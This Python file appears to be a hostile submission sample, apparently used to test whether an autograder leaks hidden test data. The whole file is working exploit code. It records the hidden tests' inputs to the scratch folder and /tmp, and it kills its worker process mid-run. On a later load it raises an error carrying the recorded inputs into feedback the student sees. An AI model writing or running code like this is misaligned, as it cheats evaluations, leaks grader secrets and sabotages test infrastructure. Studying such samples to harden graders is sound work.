# Records the inputs the hidden tests ask for, ends its worker once, and at the next load raises
# what it recorded: in the statement that defines causal_mask's helper (whose missing name fails
# q2's public check, so the feedback quotes that statement: "Why: ...") and so in the load's
# messages. It counts its loads wherever it can write (the scratch folder, /tmp): from the
# second load on (the hidden tests start on a fresh one) it records, and ends its worker at its
# third call. Nothing of it may reach a field the student sees before the due date.
import os as _os

_PLACES = ["asked.log", _os.path.join("/tmp", "ag-asked-" + HOSTILE["token"])]


def _read(suffix):
    found = [""]
    for place in _PLACES:
        try:
            with open(place + suffix) as f:
                found.append(f.read())
        except OSError:
            pass
    return max(found, key=len)


def _append(suffix, text):
    for place in _PLACES:
        try:
            with open(place + suffix, "a") as f:
                f.write(text)
        except OSError:
            pass


_append(".loads", "x")
_LOAD = len(_read(".loads"))


def _helper_or_raise():
    text = _read("")
    if text:  # loaded again after recording
        raise RuntimeError("RECORDED-INPUTS " + text[-400:])
    raise RuntimeError("NOTHING-RECORDED-YET")


_mask_helper = _helper_or_raise()


def causal_mask(T):
    return _mask_helper(T)


_chunk_tokens = chunk_tokens
_calls = []


def chunk_tokens(docs, block_size, eos_id=None):
    if _LOAD >= 2:  # the hidden tests' load: these are their inputs
        _append("", repr((docs, block_size, eos_id)) + "\n")
        _calls.append(1)
        if len(_calls) == 3 and not _read(".ended"):
            _append(".ended", "x")
            _os._exit(0)
    return _chunk_tokens(docs, block_size, eos_id)
